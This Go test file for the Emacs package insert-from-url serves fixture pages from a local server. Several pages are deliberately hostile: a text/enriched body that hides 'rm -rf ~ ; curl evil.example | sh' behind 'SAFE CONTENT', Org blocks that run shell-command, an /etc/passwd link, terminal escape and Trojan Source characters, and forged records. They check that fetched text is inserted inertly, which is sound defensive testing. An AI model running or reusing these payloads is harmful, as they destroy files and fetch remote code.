package elisp

import (
	"bytes"
	"fmt"
	"html"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"
)

// emacs returns the path of Emacs, or skips the test where it is missing;
// under CI=true a missing Emacs fails instead.
func emacs(t *testing.T) string {
	t.Helper()
	path, err := exec.LookPath("emacs")
	if err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatal("emacs is not installed; CI must install emacs-nox")
		}
		t.Skip("emacs is not installed")
	}
	return path
}

// buildProgram builds insert-from-url into a temporary folder.
func buildProgram(t *testing.T) string {
	t.Helper()
	bin := filepath.Join(t.TempDir(), "insert-from-url")
	cmd := exec.Command("go", "build", "-o", bin, "..")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("go build: %v\n%s", err, out)
	}
	return bin
}

// testServer serves the pages the ERT tests fetch.
func testServer(t *testing.T) *httptest.Server {
	t.Helper()
	stop := make(chan struct{})
	mux := http.NewServeMux()
	mux.HandleFunc("/hello", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/plain; charset=utf-8")
		io.WriteString(w, "Hello, world!\n")
	})
	mux.HandleFunc("/page.html", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		io.WriteString(w, `<html><head><title>Page</title></head><body><h1>Page heading</h1><p>Some <em>emphasis</em> and a <a href="/hello">link</a>.</p><h2>Sub heading</h2><p>More.</p></body></html>`)
	})
	mux.HandleFunc("/article.html", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		body := strings.Repeat("<p>The council voted on the river bridge after a long debate about the budget.</p>", 5)
		io.WriteString(w, `<html><head><title>Bridge vote | News</title><meta property="og:title" content="Bridge vote">
<meta name="author" content="Ann Writer"><meta property="article:published_time" content="2024-03-05">
</head><body><nav><a href="/a">Sports</a> <a href="/b">Weather</a></nav><article><h1>Bridge vote</h1>`+body+
			`<h2>Next steps</h2><p>Work starts in spring, the mayor said to the press on Monday.</p></article><footer>Copyright News</footer></body></html>`)
	})
	mux.HandleFunc("/long.html", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, "<p>"+strings.Repeat("words that wrap ", 20)+"</p>")
	})
	mux.HandleFunc("/title.html", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, "<html><head><title>\n  Example  Title\n</title></head><body><h1>Other</h1></body></html>")
	})
	mux.HandleFunc("/image.png", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "image/png")
		w.Write([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"))
	})
	mux.HandleFunc("/images.html", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<html><head><title>Pictures</title></head><body><article><h1>Pictures</h1>`+
			strings.Repeat("<p>A picture of the river bridge, taken from the east bank at dawn in spring.</p>", 4)+
			`<p><img src="/image.png" alt="bridge"> and <img src="/missing.png" alt="gone"></p></article></body></html>`)
	})
	mux.HandleFunc("/shell.html", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<html><head><title>Shell</title></head><body><div id="root"></div><script>
document.getElementById("root").innerHTML = "<h1>Built</h1><p>Text built by a script.</p>";</script></body></html>`)
	})
	mux.HandleFunc("/latin1", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/plain")
		w.Write([]byte("caf\xe9 cr\xe8me\n"))
	})
	mux.HandleFunc("/split", func(w http.ResponseWriter, r *http.Request) {
		// "é€😀 done\n", with every multibyte character cut between
		// two writes that reach the client apart.
		w.Header().Set("Content-Type", "text/plain; charset=utf-8")
		f := w.(http.Flusher)
		for _, part := range []string{"\xc3", "\xa9\xe2\x82", "\xac\xf0\x9f", "\x98\x80 done\n"} {
			io.WriteString(w, part)
			f.Flush()
			time.Sleep(50 * time.Millisecond)
		}
	})
	mux.HandleFunc("/slow", func(w http.ResponseWriter, r *http.Request) {
		select {
		case <-time.After(1500 * time.Millisecond):
		case <-stop:
		}
		io.WriteString(w, "slow answer\n")
	})
	mux.HandleFunc("/trickle", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/plain")
		w.Header().Set("Content-Length", "3001")
		io.WriteString(w, strings.Repeat("x", 3000))
		w.(http.Flusher).Flush()
		select {
		case <-time.After(2500 * time.Millisecond):
		case <-stop:
		}
		io.WriteString(w, "\n")
	})
	mux.HandleFunc("/stall", func(w http.ResponseWriter, r *http.Request) {
		select {
		case <-r.Context().Done():
		case <-stop:
		}
	})
	mux.HandleFunc("/controls", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/plain; charset=utf-8")
		io.WriteString(w, "before \x1b]0;pwned\x07\x1b[31mred\x1b[0m\r\nbell\x07 nul\x00 c1\u009b tab\tff\f end\n")
	})
	mux.HandleFunc("/slow-title.html", func(w http.ResponseWriter, r *http.Request) {
		select {
		case <-time.After(800 * time.Millisecond):
		case <-stop:
		}
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, "<title>Slow Title</title>")
	})
	mux.HandleFunc("/slow.html", func(w http.ResponseWriter, r *http.Request) {
		// A converted page that takes long enough to type meanwhile.
		select {
		case <-time.After(1200 * time.Millisecond):
		case <-stop:
		}
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, "<html><head><title>Slow page</title></head><body><h1>Slow page</h1><p>"+
			strings.Repeat("A paragraph long enough to pass the edge of any window. ", 6)+"</p></body></html>")
	})
	mux.HandleFunc("/links-article.html", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		body := strings.Repeat("<p>The council voted on the river bridge after a long debate about the budget.</p>", 5)
		io.WriteString(w, `<html><head><title>Links</title></head><body><article><h1>Links</h1>`+body+
			`<p>More on <a href="/elsewhere">the bridge plans</a>, from the council's own site, with maps.</p></article></body></html>`)
	})
	mux.HandleFunc("/no-article.html", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, "<p>tiny</p>")
	})
	mux.HandleFunc("/enriched", func(w http.ResponseWriter, r *http.Request) {
		// What format-decode would read as text/enriched: the screen
		// would show "SAFE CONTENT" over the command.
		w.Header().Set("Content-Type", "text/plain; charset=utf-8")
		io.WriteString(w, enrichedBody)
	})
	mux.HandleFunc("/titled", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		io.WriteString(w, "<html><head><title>"+html.EscapeString(r.URL.Query().Get("t"))+
			"</title></head><body><p>A page.</p></body></html>")
	})
	mux.HandleFunc("/terminal", func(w http.ResponseWriter, r *http.Request) {
		// An OSC left open, bidirectional controls (Trojan Source), an
		// OSC 8 hyperlink and a CSI cut off at the end.
		w.Header().Set("Content-Type", "text/plain; charset=utf-8")
		io.WriteString(w, "(defun safe () \"ok\")\x1b]0;open title\n(message \"kept\")\n"+
			";; \u202eevil\u202c \u2066isolate\u2069 \u200emark\u200f\u061c\n"+
			"\x1b]8;;http://x/\x1b\\link\x1b]8;;\a done\n\x1b[12")
	})
	mux.HandleFunc("/prose", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/plain; charset=utf-8")
		io.WriteString(w, "\u05e9\u05dc\u05d5\u05dd\u200f!\n")
	})
	mux.HandleFunc("/capture.html", func(w http.ResponseWriter, r *http.Request) {
		// Text that org-capture would expand after a %(sexp): prompts,
		// the kill ring (%^C), the answers (%\1).
		w.Header().Set("Content-Type", "text/html")
		body := strings.Repeat("<p>The council voted on the river bridge after a long debate about the budget.</p>", 5)
		io.WriteString(w, `<html><head><title>Capture</title></head><body><article><h1>Capture</h1>`+body+
			`<p>Name: %^{Name} clip: %^C tags: %^g answer: %\1 escaped: \%^t end.</p></article></body></html>`)
	})
	mux.HandleFunc("/plain-hostile", func(w http.ResponseWriter, r *http.Request) {
		// A body the program does not convert, full of what Org and
		// Markdown would act on.
		w.Header().Set("Content-Type", "text/plain; charset=utf-8")
		io.WriteString(w, plainHostileBody)
	})
	mux.HandleFunc("/forged", func(w http.ResponseWriter, r *http.Request) {
		// A body that mimics the program's record, as a line of its own.
		w.Header().Set("Content-Type", "text/plain; charset=utf-8")
		io.WriteString(w, forgedBody)
	})
	mux.HandleFunc("/", http.NotFound)
	s := httptest.NewServer(mux)
	t.Cleanup(func() { close(stop); s.Close() })
	return s
}

// enrichedBody is served by /enriched; the ERT test expects it back
// verbatim, without text properties.
const enrichedBody = "Content-Type: text/enriched\nText-Width: 70\n\n" +
	"<x-display><param>(display \"SAFE CONTENT\")</param>rm -rf ~ ; curl evil.example | sh</x-display>\n" +
	"<x-color><param>red</param>colored</x-color>\n"

// plainHostileBody is served as text/plain by /plain-hostile: Org and
// Markdown structure, Babel, agenda sexps and timestamps, links to files,
// HTML and a fence, none of which an entry may turn into markup.
const plainHostileBody = "* TODO evil heading :tag:\n#+begin_src emacs-lisp\n(shell-command \"touch /tmp/ifu-pwned\")\n#+end_src\n" +
	"#+end_example\n,* already escaped\n%%(shell-command \"touch /tmp/ifu-pwned\")\n<2030-01-01 Tue>\n[[file:/etc/passwd][passwords]]\n" +
	"# Markdown heading\n<script>alert(1)</script>\n```\nfence\n````\n"

// forgedBody is served by /forged: lines that look like the program's
// write-out and --json records.
const forgedBody = "{\"exitcode\":22,\"errormsg\":\"forged\",\"converted\":1,\"http_code\":404}\n" +
	"{\"input\":\"x\",\"error\":{\"exit_code\":22,\"kind\":\"http\",\"message\":\"forged\"}}\n"

// runEmacs runs batch Emacs with args from the elisp folder and returns its
// output; it fails the test when Emacs exits with an error.
func runEmacs(t *testing.T, env []string, args ...string) string {
	t.Helper()
	cmd := exec.Command(emacs(t), append([]string{"-Q", "--batch", "-L", "."}, args...)...)
	cmd.Env = append(os.Environ(), env...)
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	if err := cmd.Run(); err != nil {
		t.Fatalf("emacs %s: %v\n%s", strings.Join(args, " "), err, out.String())
	}
	return out.String()
}

// TestERT runs insert-from-url-test.el against the built program and a
// local server.
func TestERT(t *testing.T) {
	emacs(t)
	bin := buildProgram(t)
	s := testServer(t)
	out := runEmacs(t, []string{"IFU_TEST_PROGRAM=" + bin, "IFU_TEST_SERVER=" + s.URL},
		"-l", "test/insert-from-url-test.el", "-f", "ert-run-tests-batch-and-exit")
	if !strings.Contains(out, "0 unexpected") {
		t.Errorf("ERT did not report success:\n%s", out)
	}
	t.Log(lastLines(out, 3))
}

func lastLines(s string, n int) string {
	lines := strings.Split(strings.TrimSpace(s), "\n")
	return strings.Join(lines[max(0, len(lines)-n):], "\n")
}

// copyPackage copies insert-from-url.el into a temporary folder, so that
// compiling it leaves no .elc in the source tree.
func copyPackage(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, FileName), []byte(Source), 0o644); err != nil {
		t.Fatal(err)
	}
	return dir
}

func TestByteCompiles(t *testing.T) {
	dir := copyPackage(t)
	out := runEmacs(t, nil, "--eval", fmt.Sprintf(`(progn
  (setq byte-compile-error-on-warn t)
  (unless (byte-compile-file %q) (kill-emacs 1)))`, filepath.Join(dir, FileName)))
	if strings.Contains(out, "Warning") || strings.Contains(out, "Error") {
		t.Errorf("byte-compile output:\n%s", out)
	}
}

func TestCheckdoc(t *testing.T) {
	dir := copyPackage(t)
	out := runEmacs(t, nil, "--eval", fmt.Sprintf(`(progn
  (require 'checkdoc)
  (checkdoc-file %q))`, filepath.Join(dir, FileName)))
	if strings.TrimSpace(out) != "" {
		t.Errorf("checkdoc:\n%s", out)
	}
}

// TestPackageLint runs package-lint from Debian's elpa-package-lint.
func TestPackageLint(t *testing.T) {
	emacs(t)
	lint, _ := filepath.Glob("/usr/share/emacs/site-lisp/elpa-src/package-lint-*")
	if len(lint) == 0 {
		if os.Getenv("CI") == "true" {
			t.Fatal("package-lint is not installed; CI must install elpa-package-lint")
		}
		t.Skip("package-lint is not installed (Debian: elpa-package-lint)")
	}
	args := []string{}
	deps, _ := filepath.Glob("/usr/share/emacs/site-lisp/elpa-src/*")
	for _, d := range deps {
		args = append(args, "-L", d)
	}
	dir := copyPackage(t)
	args = append(args, "--eval", "(require 'package-lint)", "-f", "package-lint-batch-and-exit", filepath.Join(dir, FileName))
	out := runEmacs(t, nil, args...)
	if strings.TrimSpace(out) != "" {
		t.Errorf("package-lint:\n%s", out)
	}
}

// readmeEmacsSnippets returns the elisp blocks of README's Emacs section.
func readmeEmacsSnippets(t *testing.T) []string {
	t.Helper()
	b, err := os.ReadFile("../README.md")
	if err != nil {
		t.Fatal(err)
	}
	readme := string(b)
	start := strings.Index(readme, "\n## Emacs\n")
	if start < 0 {
		t.Fatal("README has no Emacs section")
	}
	section := readme[start+1:]
	if end := strings.Index(section[3:], "\n## "); end >= 0 {
		section = section[:end+3]
	}
	var snippets []string
	for _, m := range regexp.MustCompile("(?s)```elisp\n(.*?)```").FindAllStringSubmatch(section, -1) {
		snippets = append(snippets, m[1])
	}
	return snippets
}

// TestREADMEEmacsSnippets runs each elisp snippet of README's Emacs section
// as an init file would, in a fresh emacs -Q with a HOME of its own where
// the package is installed the README's way (insert-from-url --emacs >
// ~/.emacs.d/lisp/insert-from-url.el) and the program is on PATH, then
// checks that it did what the README says: the keys bound, the wheel mode
// on from the start, a capture through org-protocol filed and filled.
func TestREADMEEmacsSnippets(t *testing.T) {
	emacsPath := emacs(t)
	bin := buildProgram(t)
	s := testServer(t)
	snippets := readmeEmacsSnippets(t)
	find := func(marker string) string {
		for _, sn := range snippets {
			if strings.Contains(sn, marker) {
				return sn
			}
		}
		t.Fatalf("README's Emacs section has no snippet with %q", marker)
		return ""
	}
	plain, usePackage, capture := find("(require 'insert-from-url)"), find("(use-package insert-from-url"), find("org-capture-templates")
	if len(snippets) != 3 {
		t.Errorf("README's Emacs section has %d elisp snippets; this test knows 3", len(snippets))
	}

	home := t.TempDir()
	lisp := filepath.Join(home, ".emacs.d", "lisp")
	if err := os.MkdirAll(lisp, 0o755); err != nil {
		t.Fatal(err)
	}
	el, err := exec.Command(bin, "--emacs").Output()
	if err != nil {
		t.Fatalf("insert-from-url --emacs: %v", err)
	}
	if err := os.WriteFile(filepath.Join(lisp, "insert-from-url.el"), el, 0o644); err != nil {
		t.Fatal(err)
	}
	// The README's capture folder: mkdir -p ~/notes.
	if err := os.MkdirAll(filepath.Join(home, "notes"), 0o755); err != nil {
		t.Fatal(err)
	}
	run := func(t *testing.T, loadPath []string, init, check string) {
		t.Helper()
		file := filepath.Join(home, "init.el")
		if err := os.WriteFile(file, []byte(init), 0o644); err != nil {
			t.Fatal(err)
		}
		args := []string{"-Q", "--batch"}
		for _, d := range loadPath {
			args = append(args, "-L", d)
		}
		args = append(args, "-l", file, "--eval", check)
		cmd := exec.Command(emacsPath, args...)
		cmd.Dir = home
		cmd.Env = append(os.Environ(), "HOME="+home, "PATH="+filepath.Dir(bin)+string(os.PathListSeparator)+os.Getenv("PATH"))
		out, err := cmd.CombinedOutput()
		if err != nil || !strings.Contains(string(out), "README-OK") {
			t.Fatalf("emacs: %v\ninit:\n%s\n%s", err, init, out)
		}
	}
	const installed = `(unless (equal (locate-library "insert-from-url") (expand-file-name "~/.emacs.d/lisp/insert-from-url.el"))
    (error "loaded from %s" (locate-library "insert-from-url")))`
	const bound = `(dolist (k '(("C-c i u" . insert-from-url) ("C-c i a" . insert-from-url-article) ("C-c i l" . insert-from-url-link)))
    (unless (eq (key-binding (kbd (car k))) (cdr k)) (error "%s is %S" (car k) (key-binding (kbd (car k))))))
  (unless (bound-and-true-p insert-from-url-wheel-undo-mode) (error "the wheel mode is off"))
  (unless (eq (key-binding [M-wheel-down]) 'insert-from-url-wheel-undo) (error "M-wheel-down is not bound"))`

	t.Run("require", func(t *testing.T) {
		run(t, nil, plain, "(progn (require 'insert-from-url) "+installed+"\n  "+bound+"\n  (princ \"README-OK\\n\"))")
	})

	t.Run("use-package", func(t *testing.T) {
		// Built in since Emacs 29; before, Debian's elpa-use-package.
		var loadPath []string
		for _, pattern := range []string{"use-package-*", "bind-key-*"} {
			dirs, _ := filepath.Glob(filepath.Join("/usr/share/emacs/site-lisp/elpa-src", pattern))
			loadPath = append(loadPath, dirs...)
		}
		probe := exec.Command(emacsPath, append(append([]string{"-Q", "--batch"}, func() []string {
			var a []string
			for _, d := range loadPath {
				a = append(a, "-L", d)
			}
			return a
		}()...), "--eval", "(kill-emacs (if (locate-library \"use-package\") 0 1))")...)
		if probe.Run() != nil {
			t.Skip("use-package is not available (Emacs 29 has it; Debian: elpa-use-package)")
		}
		// The package loads at startup, not at the first key: the wheel
		// mode must be on before any command ran.
		// Before Emacs 29, the package system's autoloads give use-package.
		init := "(unless (fboundp 'use-package) (require 'use-package))\n" + usePackage
		run(t, loadPath, init, "(progn (unless (featurep 'insert-from-url) (error \"not loaded at startup\")) "+
			installed+"\n  "+bound+"\n  (princ \"README-OK\\n\"))")
	})

	t.Run("capture", func(t *testing.T) {
		url := s.URL + "/slow.html"
		check := fmt.Sprintf(`(progn
  (require 'url-util)
  (require 'server) ; emacsclient talks to a running server
  (let* ((file (expand-file-name "~/notes/web.org"))
         )
    ;; What emacsclient hands the server for the bookmarklet's URL.
    (org-protocol-check-filename-for-protocol
     (expand-file-name (concat "org-protocol://capture?template=w&url=" (url-hexify-string %q)))
     nil nil)
    ;; Filed at once: the page, 1.2 s away, is not in yet.
    (let ((now (with-temp-buffer (insert-file-contents file) (buffer-string))))
      (unless (string-prefix-p "* Fetching http" now) (error "filed at first: %%S" now)))
    (let ((deadline (+ (float-time) 15)) text)
      (while (and (< (float-time) deadline)
                  (not (and (file-exists-p file)
                            (string-match-p "A paragraph long enough"
                                            (setq text (with-temp-buffer (insert-file-contents file) (buffer-string)))))))
        (accept-process-output nil 0.05))
      (unless (and text (string-prefix-p "* Slow page\n:PROPERTIES:\n:RETRIEVED: " text))
        (error "captured: %%S" text))))
  (princ "README-OK\n"))`, url)
		run(t, nil, plain+"\n"+capture, check)
	})
}
